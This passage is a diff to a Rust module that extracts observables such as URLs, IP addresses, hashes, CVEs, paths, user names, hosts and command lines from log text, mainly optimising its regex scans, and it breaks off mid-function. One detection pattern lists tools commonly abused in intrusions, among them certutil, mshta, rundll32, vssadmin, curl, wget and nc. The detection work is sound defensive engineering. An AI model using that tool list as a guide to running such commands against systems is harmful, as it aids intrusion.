@@ -71,39 +71,68 @@ static WINDOWS_PATH: LazyLock<Regex> = LazyLock::new(|| {
     ))
 });
 
+/// The pattern [`next_unix_path`] follows by hand, kept to test that both find the same.
+#[cfg(test)]
 static UNIX_PATH: LazyLock<Regex> = LazyLock::new(|| re(r"/[A-Za-z0-9._+@%~-]+(?:/[A-Za-z0-9._+@%~-]*)+"));
 
 static DOMAIN_USER: LazyLock<Regex> =
     LazyLock::new(|| re(r"(?-u:\b)(?:NT AUTHORITY|[A-Z][A-Z0-9-]{1,14})\\[A-Za-z][A-Za-z0-9._$-]{0,63}"));
 
-static USER: LazyLock<Regex> = LazyLock::new(|| {
-    re(concat!(
-        r"(?i)(?:(?-u:\b)(?:Failed|Accepted)\s+\S+\s+for\s+(?:invalid\s+user\s+|illegal\s+user\s+)?",
-        r"|(?-u:\b)(?:for|by)\s+(?:invalid\s+|illegal\s+)?user\s+",
-        r"|(?-u:\b)(?:invalid|illegal)\s+user\s+",
-        r"|(?-u:\b)session\s+(?:opened|closed)\s+for\s+user\s+",
-        r"|(?-u:\b)sudo:\s+",
-        r#"|(?-u:\b)(?:user(?:_?name)?|account(?:_?name)?)\s*[=:]\s*"?"#,
-        r"|(?-u:\b)(?:login|logon|uid|acct|suser|duser|srcuser|dstuser)=",
-        r")([A-Za-z0-9_][A-Za-z0-9._$@-]{0,63})"
-    ))
-});
+// The four patterns below are written in lower case and compiled twice: case-insensitive for any
+// text, and case-sensitive for the text with its ASCII letters lower-cased. On such a text both find
+// exactly the same spans, and the case-sensitive one runs several times faster: its literal
+// prefilter needs no case variants. (`(?i)` also folds `ſ` to `s` and the Kelvin sign to `k`, the
+// only non-ASCII characters that fold to ASCII letters; a text holding one of them takes the
+// case-insensitive patterns, see `Scan::lower`.)
 
-static HOST: LazyLock<Regex> = LazyLock::new(|| {
-    re(
-        r#"(?i)(?-u:\b)(?:host(?:_?name)?|computer(?:_?name)?|workstation|device)(\s*[=:]\s*"?|\s+)([A-Za-z0-9][A-Za-z0-9._-]{0,252})"#,
-    )
-});
+/// The user-name capture is the last part of every match, and no prefix ends with a character of
+/// its tail class, so the name is the longest suffix of the match in [`user_name_byte`].
+const USER_PATTERN: &str = concat!(
+    r"(?:(?-u:\b)(?:failed|accepted)\s+\S+\s+for\s+(?:invalid\s+user\s+|illegal\s+user\s+)?",
+    r"|(?-u:\b)(?:for|by)\s+(?:invalid\s+|illegal\s+)?user\s+",
+    r"|(?-u:\b)(?:invalid|illegal)\s+user\s+",
+    r"|(?-u:\b)session\s+(?:opened|closed)\s+for\s+user\s+",
+    r"|(?-u:\b)sudo:\s+",
+    r#"|(?-u:\b)(?:user(?:_?name)?|account(?:_?name)?)\s*[=:]\s*"?"#,
+    r"|(?-u:\b)(?:login|logon|uid|acct|suser|duser|srcuser|dstuser)=",
+    r")([A-Za-z0-9_][A-Za-z0-9._$@-]{0,63})"
+);
 
-static COMMAND_KEY: LazyLock<Regex> =
-    LazyLock::new(|| re(r"(?i)(?-u:\b)(?:command[_ ]?line|cmd_?line|COMMAND|cmd)\s*[=:]\s*([^\r\n]+)"));
+/// As for users, the host name is the longest suffix of the match in [`host_name_byte`].
+const HOST_PATTERN: &str = r#"(?-u:\b)(?:host(?:_?name)?|computer(?:_?name)?|workstation|device)(\s*[=:]\s*"?|\s+)([A-Za-z0-9][A-Za-z0-9._-]{0,252})"#;
 
-static COMMAND_TOOL: LazyLock<Regex> = LazyLock::new(|| {
-    re(concat!(
-        r"(?i)(?-u:\b)(?:powershell|pwsh|cmd|rundll32|regsvr32|mshta|certutil|wmic|vssadmin|bitsadmin|schtasks",
-        r"|cscript|wscript|bash|sh|python[0-9.]*|perl|curl|wget|nc|ncat)(?:\.exe)?[ \t]+[-/][^\r\n]*"
-    ))
-});
+const COMMAND_KEY_PATTERN: &str = r"(?-u:\b)(?:command[_ ]?line|cmd_?line|command|cmd)\s*[=:]\s*([^\r\n]+)";
+
+const COMMAND_TOOL_PATTERN: &str = concat!(
+    r"(?-u:\b)(?:powershell|pwsh|cmd|rundll32|regsvr32|mshta|certutil|wmic|vssadmin|bitsadmin|schtasks",
+    r"|cscript|wscript|bash|sh|python[0-9.]*|perl|curl|wget|nc|ncat)(?:\.exe)?[ \t]+[-/][^\r\n]*"
+);
+
+static USER: LazyLock<Regex> = LazyLock::new(|| re(&format!("(?i){USER_PATTERN}")));
+static USER_LC: LazyLock<Regex> = LazyLock::new(|| re(USER_PATTERN));
+static HOST: LazyLock<Regex> = LazyLock::new(|| re(&format!("(?i){HOST_PATTERN}")));
+static HOST_LC: LazyLock<Regex> = LazyLock::new(|| re(HOST_PATTERN));
+static COMMAND_KEY: LazyLock<Regex> = LazyLock::new(|| re(&format!("(?i){COMMAND_KEY_PATTERN}")));
+static COMMAND_KEY_LC: LazyLock<Regex> = LazyLock::new(|| re(COMMAND_KEY_PATTERN));
+static COMMAND_TOOL: LazyLock<Regex> = LazyLock::new(|| re(&format!("(?i){COMMAND_TOOL_PATTERN}")));
+static COMMAND_TOOL_LC: LazyLock<Regex> = LazyLock::new(|| re(COMMAND_TOOL_PATTERN));
+
+/// The tail class of a user name in [`USER_PATTERN`].
+fn user_name_byte(c: u8) -> bool {
+    c.is_ascii_alphanumeric() || matches!(c, b'.' | b'_' | b'$' | b'@' | b'-')
+}
+
+/// The tail class of a host name in [`HOST_PATTERN`].
+fn host_name_byte(c: u8) -> bool {
+    c.is_ascii_alphanumeric() || matches!(c, b'.' | b'_' | b'-')
+}
+
+/// Where the name captured at the end of a match of `span` starts: after the last byte of the
+/// match outside the name's class.
+fn name_start(text: &[u8], span: (usize, usize), in_name: fn(u8) -> bool) -> usize {
+    let (s, e) = span;
+    text[s..e].iter().rposition(|&c| !in_name(c)).map_or(s, |i| s + i + 1)
+}
 
 /// Generic top-level domains accepted after a dot; two-letter country codes are accepted unless
 /// they are common file extensions ([`EXTENSION_LIKE_CC`]).
@@ -224,7 +253,7 @@ const HIVES: &[(&str, &str)] = &[
 /// Extracts every observable of `text`, in position order.
 pub fn extract(text: &str) -> Vec<Found> {
     let mut hits = Vec::new();
-    hits_of(text, &mut hits);
+    hits_of(text, &mut hits, &mut ScanBuffers::default());
     hits.into_iter()
         .map(|h| Found {
             kind: h.kind,
@@ -237,7 +266,7 @@ pub fn extract(text: &str) -> Vec<Found> {
 
 /// A match before it becomes a [`Found`]: `value` is `None` when the normalized value is the raw
 /// text itself (the common case, which then costs no allocation).
-#[derive(Debug)]
+#[derive(Debug, PartialEq)]
 struct Hit {
     kind: ObservableKind,
     value: Option<String>,
@@ -259,24 +288,30 @@ fn upper(s: &str) -> Option<String> {
     s.bytes().any(|c| c.is_ascii_lowercase()).then(|| s.to_ascii_uppercase())
 }
 
-/// Every hit of `text` (offsets into `text`), sorted by position.
-fn hits_of(text: &str, out: &mut Vec<Hit>) {
+/// Every hit of `text` (offsets into `text`), sorted by position. `buffers` are kept by the caller
+/// so a batch does not allocate them again.
+fn hits_of(text: &str, out: &mut Vec<Hit>, buffers: &mut ScanBuffers) {
     out.clear();
     if text.is_empty() {
         return;
     }
     match refang(text) {
-        None => Scan::new(text, None).run(out),
+        None => Scan::new(text, None, buffers).run(out),
         Some((clean, map)) => {
-            Scan::new(&clean, Some(&map)).run(out);
+            Scan::new(&clean, Some(&map), buffers).run(out);
             // Values are taken from the clean text, offsets mapped back to the original.
             let at = |i: usize| map.get(i).copied().unwrap_or(text.len());
             for h in out.iter_mut() {
+                let (s, e) = (at(h.start), at(h.end));
                 if h.value.is_none() {
-                    h.value = Some(clean.get(h.start..h.end).unwrap_or_default().to_owned());
+                    let value = clean.get(h.start..h.end).unwrap_or_default();
+                    // A batch is refanged whole: most of its hits were not defanged and need no copy.
+                    if text.get(s..e) != Some(value) {
+                        h.value = Some(value.to_owned());
+                    }
                 }
-                h.start = at(h.start);
-                h.end = at(h.end);
+                h.start = s;
+                h.end = e;
             }
         }
     }
@@ -313,10 +348,56 @@ fn refang(text: &str) -> Option<(String, Vec<usize>)> {
     Some((clean, map))
 }
 
+/// What a scan learns of its text in one pass, and the lower-cased copy; kept between batches.
+#[derive(Debug, Default)]
+struct ScanBuffers {
+    lower: String,
+    dots: Vec<usize>,
+    colons: Vec<usize>,
+    slashes: Vec<usize>,
+}
+
+/// Byte classes of the first pass over a text: the bytes whose offsets are recorded, and the
+/// bytes whose mere presence decides whether a scanner runs.
+const POSITION: u8 = 1;
+const AT: u8 = 2;
+const DASH: u8 = 4;
+const BACKSLASH: u8 = 8;
+const EQUALS: u8 = 16;
+const SPACE: u8 = 32;
+/// The first byte of `ſ` (C5 BF) and of the Kelvin sign (E2 84 AA).
+const FOLD_LEAD: u8 = 64;
+
+const BYTE_CLASS: [u8; 256] = {
+    let mut classes = [0u8; 256];
+    classes[b'.' as usize] = POSITION;
+    classes[b':' as usize] = POSITION;
+    classes[b'/' as usize] = POSITION;
+    classes[b'@' as usize] = AT;
+    classes[b'-' as usize] = DASH;
+    classes[b'\\' as usize] = BACKSLASH;
+    classes[b'=' as usize] = EQUALS;
+    classes[b' ' as usize] = SPACE;
+    classes[0xc5] = FOLD_LEAD;
+    classes[0xe2] = FOLD_LEAD;
+    classes
+};
+
 /// One scan of one (refanged) text.
 struct Scan<'a> {
     t: &'a str,
     b: &'a [u8],
+    /// Offsets of every `.`, `:` and `/` of `t`, in order: the scanners that start from those
+    /// bytes walk these lists instead of searching the text again and again.
+    dots: &'a [usize],
+    colons: &'a [usize],
+    slashes: &'a [usize],
+    /// The [`BYTE_CLASS`] bits of the bytes of `t`.
+    seen: u8,
+    /// `t` with its ASCII letters lower-cased, for the case-sensitive twins of the case-insensitive
+    /// patterns (`USER_LC`, ...) and the hand-written URL scan. `None` when `t` holds `ſ` or the
+    /// Kelvin sign, which `(?i)` folds to ASCII letters: then the case-insensitive patterns run.
+    lower: Option<&'a str>,
     /// The refang map, to know whether a span was defanged.
     map: Option<&'a [usize]>,
     /// Spans owned by URLs and e-mails (no domain, IP or path is taken from inside them again).
@@ -334,6 +415,15 @@ fn overlaps(spans: &[(usize, usize)], s: usize, e: usize) -> bool {
     spans.get(i).is_some_and(|&(a, _)| a < e)
 }
 
+/// [`overlaps`] for queries made in increasing `s`: `cursor` remembers how far the spans ending at
+/// or before `s` go, so a batch is walked once instead of searched for every token.
+fn overlaps_in_order(spans: &[(usize, usize)], cursor: &mut usize, s: usize, e: usize) -> bool {
+    while spans.get(*cursor).is_some_and(|&(_, b)| b <= s) {
+        *cursor += 1;
+    }
+    spans.get(*cursor).is_some_and(|&(a, _)| a < e)
+}
+
 /// Records a span, keeping `spans` sorted by start.
 fn claim(spans: &mut Vec<(usize, usize)>, s: usize, e: usize) {
     let i = spans.partition_point(|&(a, _)| a < s);
@@ -341,12 +431,67 @@ fn claim(spans: &mut Vec<(usize, usize)>, s: usize, e: usize) {
 }
 
 impl<'a> Scan<'a> {
-    fn new(t: &'a str, map: Option<&'a [usize]>) -> Self {
-        Scan { t, b: t.as_bytes(), map, claimed: Vec::new(), windows: Vec::new(), commands: Vec::new() }
+    fn new(t: &'a str, map: Option<&'a [usize]>, buffers: &'a mut ScanBuffers) -> Self {
+        let ScanBuffers { lower, dots, colons, slashes } = buffers;
+        dots.clear();
+        colons.clear();
+        slashes.clear();
+        // Two steps per chunk, neither branching on the bytes (a branch per `.`, `:` or `/` is
+        // mispredicted too often): note the offset of every marked byte, then file each one in the
+        // list of its byte.
+        const CHUNK: usize = 4096;
+        let mut marks = [0u16; CHUNK];
+        let mut seen = 0;
+        let lists = [dots, colons, slashes];
+        for (n, chunk) in t.as_bytes().chunks(CHUNK).enumerate() {
+            let mut count = 0;
+            for (j, &c) in chunk.iter().enumerate() {
+                let class = BYTE_CLASS[usize::from(c)];
+                seen |= class;
+                // `count` <= `j` < CHUNK.
+                marks[count] = j as u16;
+                count += usize::from(class & POSITION);
+            }
+            for &j in &marks[..count] {
+                let list = match chunk[usize::from(j)] {
+                    b'.' => 0,
+                    b':' => 1,
+                    _ => 2,
+                };
+                lists[list].push(n * CHUNK + usize::from(j));
+            }
+        }
+        let [dots, colons, slashes] = lists;
+        let lower = if seen & FOLD_LEAD != 0 && (t.contains('\u{17f}') || t.contains('\u{212a}')) {
+            None
+        } else {
+            lower.clear();
+            lower.push_str(t);
+            lower.make_ascii_lowercase();
+            Some(lower.as_str())
+        };
+        Scan {
+            t,
+            b: t.as_bytes(),
+            dots,
+            colons,
+            slashes,
+            seen,
+            lower,
+            map,
+            claimed: Vec::new(),
+            windows: Vec::new(),
+            commands: Vec::new(),
+        }
     }
 
-    fn has(&self, byte: u8) -> bool {
-        self.b.contains(&byte)
+    fn has(&self, class: u8) -> bool {
+        self.seen & class != 0
+    }
+
+    /// True when a `://` follows the colon at `k`.
+    fn scheme_separator(&self, k: usize) -> bool {
+        self.b.get(k + 1..k + 3) == Some(b"//")
     }
 
     fn before(&self, i: usize) -> Option<u8> {
@@ -365,82 +510,106 @@ impl<'a> Scan<'a> {
     }
 
     fn run(mut self, out: &mut Vec<Hit>) {
-        let has_dot = self.has(b'.');
-        if self.t.contains("://") {
+        let has_dot = !self.dots.is_empty();
+        if self.colons.iter().any(|&k| self.scheme_separator(k)) {
             self.urls(out);
         }
-        if self.has(b'@') && has_dot {
+        if self.has(AT) && has_dot {
             self.emails(out);
         }
         if has_dot {
             self.dotted(out);
         }
-        if self.t.contains("::") || self.b.iter().filter(|&&c| c == b':').count() >= 7 {
+        let double_colon = self.colons.windows(2).any(|w| w[1] == w[0] + 1);
+        if double_colon || self.colons.len() >= 7 {
             self.ipv6(out);
         }
         self.hashes(out);
-        if self.has(b'-') {
+        if self.has(DASH) {
             for m in CVE.find_iter(self.t) {
                 out.push(Hit::new(ObservableKind::Cve, upper(m.as_str()), m.start(), m.end()));
             }
         }
-        let has_backslash = self.has(b'\\');
-        if has_backslash {
+        if self.has(BACKSLASH) {
             self.registry(out);
             self.windows_paths(out);
             self.domain_users(out);
         }
-        if self.has(b'/') {
+        if !self.slashes.is_empty() {
             self.unix_paths(out);
         }
         self.users(out);
         self.hosts(out);
-        if self.has(b'=') || self.has(b':') || self.has(b' ') {
+        if self.has(EQUALS | SPACE) || !self.colons.is_empty() {
             self.command_lines(out);
         }
     }
 
     fn urls(&mut self, out: &mut Vec<Hit>) {
-        for m in URL.find_iter(self.t) {
-            let s = m.start();
-            let mut url = m.as_str();
-            // Sentence punctuation and closing brackets after a URL are not part of it.
-            while let Some(last) = url.chars().last() {
-                let unbalanced_paren = last == ')' && !url.contains('(');
-                if matches!(last, '.' | ',' | ';' | ':' | '!' | '?' | '\'' | '"') || unbalanced_paren {
-                    url = &url[..url.len() - 1];
-                } else {
-                    break;
-                }
+        if self.lower.is_none() {
+            let spans: Vec<(usize, usize)> = URL.find_iter(self.t).map(|m| (m.start(), m.end())).collect();
+            for (s, e) in spans {
+                self.url(s, e, out);
             }
-            let Some(scheme_end) = url.find("://") else { continue };
-            let after = &url[scheme_end + 3..];
-            let authority_len = after.find(['/', '?', '#']).unwrap_or(after.len());
-            if authority_len == 0 {
+            return;
+        }
+        let (t, b, colons) = (self.t, self.b, self.colons);
+        let mut last_end = 0;
+        for &k in colons {
+            if k < last_end || !self.scheme_separator(k) {
                 continue;
             }
-            let authority = &after[..authority_len];
-            let e = s + url.len();
-            let mut value = String::with_capacity(url.len());
-            value.push_str(&url[..scheme_end + 3 + authority_len].to_ascii_lowercase());
-            value.push_str(&after[authority_len..]);
-            let value = (value != url).then_some(value);
-            out.push(Hit::new(ObservableKind::Url, value, s, e));
-            claim(&mut self.claimed, s, e);
-            // The host of the URL is an observable of its own.
-            let host_start = authority.rfind('@').map_or(0, |i| i + 1);
-            let host_and_port = &authority[host_start..];
-            let host = match host_and_port.rfind(':') {
-                Some(i) if host_and_port[i + 1..].bytes().all(|c| c.is_ascii_digit()) => &host_and_port[..i],
-                _ => host_and_port,
-            };
-            let hs = s + scheme_end + 3 + host_start;
-            let he = hs + host.len();
-            if host.parse::<Ipv4Addr>().is_ok() {
-                out.push(Hit::new(ObservableKind::Ipv4, None, hs, he));
-            } else if host.contains('.') && host.bytes().all(|c| c.is_ascii_alphanumeric() || c == b'.' || c == b'-') {
-                out.push(Hit::new(ObservableKind::Domain, lower(host), hs, he));
+            let Some(s) = url_start(b, k, last_end) else { continue };
+            let e = url_body_end(t, k + 3);
+            if e > k + 3 {
+                self.url(s, e, out);
+                last_end = e;
             }
+        }
+    }
+
+    /// One match of [`URL`] at `s..e`: trimmed, normalized, and its host taken too.
+    fn url(&mut self, s: usize, e: usize, out: &mut Vec<Hit>) {
+        let mut url = &self.t[s..e];
+        // Sentence punctuation and closing brackets after a URL are not part of it.
+        while let Some(last) = url.chars().last() {
+            let unbalanced_paren = last == ')' && !url.contains('(');
+            if matches!(last, '.' | ',' | ';' | ':' | '!' | '?' | '\'' | '"') || unbalanced_paren {
+                url = &url[..url.len() - 1];
+            } else {
+                break;
+            }
+        }
+        let Some(scheme_end) = url.find("://") else { return };
+        let after = &url[scheme_end + 3..];
+        let authority_len = after.find(['/', '?', '#']).unwrap_or(after.len());
+        if authority_len == 0 {
+            return;
+        }
+        let authority = &after[..authority_len];
+        let e = s + url.len();
+        // Scheme and host are case-insensitive, the rest is not.
+        let head = &url[..scheme_end + 3 + authority_len];
+        let value = head.bytes().any(|c| c.is_ascii_uppercase()).then(|| {
+            let mut value = head.to_ascii_lowercase();
+            value.push_str(&after[authority_len..]);
+            value
+        });
+        out.push(Hit::new(ObservableKind::Url, value, s, e));
+        claim(&mut self.claimed, s, e);
+        // The host of the URL is an observable of its own.
+        let host_start = authority.rfind('@').map_or(0, |i| i + 1);
+        let host_and_port = &authority[host_start..];
+        let host = match host_and_port.rfind(':') {
+            Some(i) if host_and_port[i + 1..].bytes().all(|c| c.is_ascii_digit()) => &host_and_port[..i],
+            _ => host_and_port,
+        };
+        let hs = s + scheme_end + 3 + host_start;
+        let he = hs + host.len();
+        if host.parse::<Ipv4Addr>().is_ok() {
+            out.push(Hit::new(ObservableKind::Ipv4, None, hs, he));
+        } else if host.contains('.') && host.bytes().all(|c| c.is_ascii_alphanumeric() || c == b'.' || c == b'-') {
+            out.push(Hit::new(ObservableKind::Domain, lower(host), hs, he));
         }
     }
 
@@ -461,9 +630,11 @@ impl<'a> Scan<'a> {
     fn dotted(&mut self, out: &mut Vec<Hit>) {
         let b = self.b;
         let tok = |c: u8| c.is_ascii_alphanumeric() || c == b'-' || c == b'_' || c == b'.';
-        let mut i = 0;
-        while let Some(p) = b[i..].iter().position(|&c| c == b'.') {
-            let dot = i + p;
+        let (mut i, mut cursor) = (0, 0);
+        for &dot in self.dots {
+            if dot < i {
+                continue;
+            }
             let mut s = dot;
             while s > i && tok(b[s - 1]) {
                 s -= 1;
@@ -480,11 +651,11 @@ impl<'a> Scan<'a> {
             while e > s && matches!(b[e - 1], b'.' | b'-' | b'_') {
                 e -= 1;
             }
-            if e <= s || overlaps(&self.claimed, s, e) {
+            if e <= s || overlaps_in_order(&self.claimed, &mut cursor, s, e) {
                 continue;
             }
             let token = &self.t[s..e];
-            let labels = token.split('.').count();
+            let labels = token.bytes().filter(|&c| c == b'.').count() + 1;
             if labels == 4 && token.bytes().all(|c| c.is_ascii_digit() || c == b'.') {
                 if token.parse::<Ipv4Addr>().is_ok() {
                     out.push(Hit::new(ObservableKind::Ipv4, None, s, e));
@@ -503,75 +674,105 @@ impl<'a> Scan<'a> {
             if !(2..=24).contains(&tld.len()) || !tld.bytes().all(|c| c.is_ascii_alphabetic()) {
                 continue;
             }
-            let tld = tld.to_ascii_lowercase();
-            let known = TLDS.contains(&tld.as_str()) || (tld.len() == 2 && !EXTENSION_LIKE_CC.contains(&tld.as_str()));
+            let is = |list: &[&str]| list.iter().any(|x| x.eq_ignore_ascii_case(tld));
+            let known = is(TLDS) || (tld.len() == 2 && !is(EXTENSION_LIKE_CC));
             if known || self.defanged(s, e) {
                 out.push(Hit::new(ObservableKind::Domain, lower(token), s, e));
             }
         }
     }
 
+    /// [`IPV6`] runs only on runs of the bytes it can match (hex digits, `:` and `.`) that could
+    /// hold an address: with `::`, or at least six colons (`1:2:3:4:5:6:1.2.3.4`). Its matches
+    /// never leave such a run and it has no look-around, so it finds there exactly what it finds
+    /// in the whole text; other runs (times like `04:11:09`) cannot parse as an address anyway.
     fn ipv6(&mut self, out: &mut Vec<Hit>) {
-        for m in IPV6.find_iter(self.t) {
-            let (s, mut e) = (m.start(), m.end());
-            let is_word = |c: u8| c.is_ascii_alphanumeric() || c == b'_' || c == b':' || c == b'.';
-            let after = |i: usize| self.b.get(i).copied();
-            let word_after = match after(e) {
-                Some(b'.') => after(e + 1).is_some_and(|c| c.is_ascii_alphanumeric()),
-                Some(c) => is_word(c),
-                None => false,
-            };
-            if self.before(s).is_some_and(is_word) || word_after {
+        let (t, b) = (self.t, self.b);
+        let run_byte = |c: u8| c.is_ascii_hexdigit() || c == b':' || c == b'.';
+        let mut from = 0;
+        for &colon in self.colons {
+            if colon < from {
                 continue;
             }
-            let mut candidate = m.as_str();
-            // A colon ending a sentence (`from fe80::1:`) is not part of the address.
-            if candidate.ends_with(':') && !candidate.ends_with("::") {
-                candidate = &candidate[..candidate.len() - 1];
-                e -= 1;
+            let mut s = colon;
+            while s > from && run_byte(b[s - 1]) {
+                s -= 1;
             }
-            if !candidate.bytes().any(|c| c.is_ascii_hexdigit()) {
+            let mut e = colon + 1;
+            while e < b.len() && run_byte(b[e]) {
+                e += 1;
+            }
+            from = e;
+            let run = &t[s..e];
+            if !run.contains("::") && run.bytes().filter(|&c| c == b':').count() < 6 {
                 continue;
             }
-            if let Ok(ip) = candidate.parse::<Ipv6Addr>() {
-                let value = ip.to_string();
-                let value = (value != candidate).then_some(value);
-                out.push(Hit::new(ObservableKind::Ipv6, value, s, e));
+            for m in IPV6.find_iter(run) {
+                self.ipv6_at(s + m.start(), s + m.end(), out);
             }
         }
     }
 
-    /// Whole runs of hex digits of hash length, bounded by non-word characters.
+    fn ipv6_at(&mut self, s: usize, e: usize, out: &mut Vec<Hit>) {
+        let mut e = e;
+        let is_word = |c: u8| c.is_ascii_alphanumeric() || c == b'_' || c == b':' || c == b'.';
+        let after = |i: usize| self.b.get(i).copied();
+        let word_after = match after(e) {
+            Some(b'.') => after(e + 1).is_some_and(|c| c.is_ascii_alphanumeric()),
+            Some(c) => is_word(c),
+            None => false,
+        };
+        if self.before(s).is_some_and(is_word) || word_after {
+            return;
+        }
+        let mut candidate = &self.t[s..e];
+        // A colon ending a sentence (`from fe80::1:`) is not part of the address.
+        if candidate.ends_with(':') && !candidate.ends_with("::") {
+            candidate = &candidate[..candidate.len() - 1];
+            e -= 1;
+        }
+        if !candidate.bytes().any(|c| c.is_ascii_hexdigit()) {
+            return;
+        }
+        if let Ok(ip) = candidate.parse::<Ipv6Addr>() {
+            let value = ip.to_string();
+            let value = (value != candidate).then_some(value);
+            out.push(Hit::new(ObservableKind::Ipv6, value, s, e));
+        }
+    }
+
+    /// Whole words (runs of ASCII letters, digits and `_`) of 32, 40 or 64 hex digits with at least
+    /// one decimal digit. Such a run covers every 32nd byte it spans, so the scan looks at every
+    /// 32nd byte and steps over the text whenever that byte is no hex digit.
     fn hashes(&mut self, out: &mut Vec<Hit>) {
         let b = self.b;
+        let hex = |c: u8| c.is_ascii_hexdigit();
+        let word = |c: u8| c.is_ascii_alphanumeric() || c == b'_';
+        // `i` is 0 or follows a byte that is no hex digit.
         let mut i = 0;
-        while i < b.len() {
-            if !b[i].is_ascii_hexdigit() {
-                i += 1;
+        while i + 32 <= b.len() {
+            if !hex(b[i + 31]) {
+                i += 32;
                 continue;
             }
-            let start = i;
-            while i < b.len() && b[i].is_ascii_hexdigit() {
-                i += 1;
+            let mut s = i + 31;
+            while s > i && hex(b[s - 1]) {
+                s -= 1;
             }
-            let len = i - start;
-            let kind = match len {
+            let mut e = i + 32;
+            while e < b.len() && hex(b[e]) {
+                e += 1;
+            }
+            i = e + 1;
+            let kind = match e - s {
                 32 => ObservableKind::Md5,
                 40 => ObservableKind::Sha1,
                 64 => ObservableKind::Sha256,
-                _ => {
-                    // Skip the rest of a word the run belongs to.
-                    while i < b.len() && (b[i].is_ascii_alphanumeric() || b[i] == b'_') {
-                        i += 1;
-                    }
-                    continue;
-                }
+                _ => continue,
             };
-            let word = |c: u8| c.is_ascii_alphanumeric() || c == b'_';
-            let bounded = !self.before(start).is_some_and(word) && !b.get(i).is_some_and(|&c| word(c));
-            let digits = b[start..i].iter().any(u8::is_ascii_digit);
-            if bounded && digits {
-                out.push(Hit::new(kind, lower(&self.t[start..i]), start, i));
+            let whole_word = !self.before(s).is_some_and(word) && !b.get(e).is_some_and(|&c| word(c));
+            if whole_word && b[s..e].iter().any(u8::is_ascii_digit) {
+                out.push(Hit::new(kind, lower(&self.t[s..e]), s, e));
             }
         }
     }
@@ -635,8 +836,9 @@ impl<'a> Scan<'a> {
     }
 
     fn unix_paths(&mut self, out: &mut Vec<Hit>) {
-        for m in UNIX_PATH.find_iter(self.t) {
-            let s = m.start();
+        let mut cursor = 0;
+        for (s, e) in unix_path_spans(self.b, self.slashes) {
+            let m = &self.t[s..e];
             let ok_before = match self.before(s) {
                 None => true,
                 Some(c) => c.is_ascii_whitespace() || b"\"'=([{,:;<>|`".contains(&c),
@@ -644,9 +846,9 @@ impl<'a> Scan<'a> {
             if !ok_before {
                 continue;
             }
-            let raw = m.as_str().trim_end_matches(['.', ',', ':']);
+            let raw = m.trim_end_matches(['.', ',', ':']);
             let e = s + raw.len();
-            if raw.len() < 3 || overlaps(&self.claimed, s, e) {
+            if raw.len() < 3 || overlaps_in_order(&self.claimed, &mut cursor, s, e) {
                 continue;
             }
             out.push(Hit::new(ObservableKind::FilePath, None, s, e));
@@ -654,56 +856,178 @@ impl<'a> Scan<'a> {
     }
 
     fn users(&mut self, out: &mut Vec<Hit>) {
-        for caps in USER.captures_iter(self.t) {
-            let Some(m) = caps.get(1) else { continue };
-            let raw = m.as_str().trim_end_matches(['.', ',', ':', ')', '"']);
-            if raw.is_empty() || NOT_USERS.iter().any(|n| n.eq_ignore_ascii_case(raw)) {
-                continue;
+        match self.lower {
+            Some(lower) => {
+                for m in USER_LC.find_iter(lower) {
+                    let s = name_start(lower.as_bytes(), (m.start(), m.end()), user_name_byte);
+                    self.user(s, m.end(), out);
+                }
             }
-            let (s, e) = (m.start(), m.start() + raw.len());
-            if overlaps(&self.windows, s, e) {
-                continue;
+            None => {
+                let names: Vec<(usize, usize)> =
+                    USER.captures_iter(self.t).filter_map(|c| c.get(1)).map(|m| (m.start(), m.end())).collect();
+                for (s, e) in names {
+                    self.user(s, e, out);
+                }
             }
-            out.push(Hit::new(ObservableKind::User, None, s, e));
         }
+    }
+
+    /// A user name captured at `s..e`.
+    fn user(&mut self, s: usize, e: usize, out: &mut Vec<Hit>) {
+        let raw = self.t[s..e].trim_end_matches(['.', ',', ':', ')', '"']);
+        if raw.is_empty() || NOT_USERS.iter().any(|n| n.eq_ignore_ascii_case(raw)) {
+            return;
+        }
+        let e = s + raw.len();
+        if overlaps(&self.windows, s, e) {
+            return;
+        }
+        out.push(Hit::new(ObservableKind::User, None, s, e));
     }
 
     fn hosts(&mut self, out: &mut Vec<Hit>) {
-        for caps in HOST.captures_iter(self.t) {
-            let (Some(sep), Some(m)) = (caps.get(1), caps.get(2)) else { continue };
-            let raw = m.as_str().trim_end_matches(['.', '-', '_']);
-            let keyed = sep.as_str().contains(['=', ':']);
-            // After a bare `host` word, only a name that looks like one (`bastion-01`, `WS042`).
-            let looks_like_name = raw.bytes().any(|c| c.is_ascii_digit() || c == b'-' || c == b'.');
-            if raw.is_empty() || !(keyed || looks_like_name) || raw.parse::<std::net::IpAddr>().is_ok() {
-                continue;
+        match self.lower {
+            Some(lower) => {
+                for m in HOST_LC.find_iter(lower) {
+                    let s = name_start(lower.as_bytes(), (m.start(), m.end()), host_name_byte);
+                    // The keyword has no `=` or `:`, so the separator has one when the match has.
+                    let keyed = lower[m.start()..s].contains(['=', ':']);
+                    self.host(keyed, s, m.end(), out);
+                }
             }
-            let s = m.start();
-            out.push(Hit::new(ObservableKind::Host, lower(raw), s, s + raw.len()));
+            None => {
+                let names: Vec<(bool, usize, usize)> = HOST
+                    .captures_iter(self.t)
+                    .filter_map(|c| Some((c.get(1)?.as_str().contains(['=', ':']), c.get(2)?)))
+                    .map(|(keyed, m)| (keyed, m.start(), m.end()))
+                    .collect();
+                for (keyed, s, e) in names {
+                    self.host(keyed, s, e, out);
+                }
+            }
         }
     }
 
+    /// A host name captured at `s..e`, after a `host=` key (`keyed`) or a bare `host` word.
+    fn host(&mut self, keyed: bool, s: usize, e: usize, out: &mut Vec<Hit>) {
+        let raw = self.t[s..e].trim_end_matches(['.', '-', '_']);
+        // After a bare `host` word, only a name that looks like one (`bastion-01`, `WS042`).
+        let looks_like_name = raw.bytes().any(|c| c.is_ascii_digit() || c == b'-' || c == b'.');
+        if raw.is_empty() || !(keyed || looks_like_name) || raw.parse::<std::net::IpAddr>().is_ok() {
+            return;
+        }
+        out.push(Hit::new(ObservableKind::Host, lower(raw), s, s + raw.len()));
+    }
+
     fn command_lines(&mut self, out: &mut Vec<Hit>) {
-        for caps in COMMAND_KEY.captures_iter(self.t) {
+        let (key, tool, hay) = match self.lower {
+            Some(lower) => (&*COMMAND_KEY_LC, &*COMMAND_TOOL_LC, lower),
+            None => (&*COMMAND_KEY, &*COMMAND_TOOL, self.t),
+        };
+        for caps in key.captures_iter(hay) {
             let Some(m) = caps.get(1) else { continue };
-            let (rel_s, rel_e) = command_extent(m.as_str(), true);
+            // The extent is read from the text as written: its `Key=` test is case-sensitive.
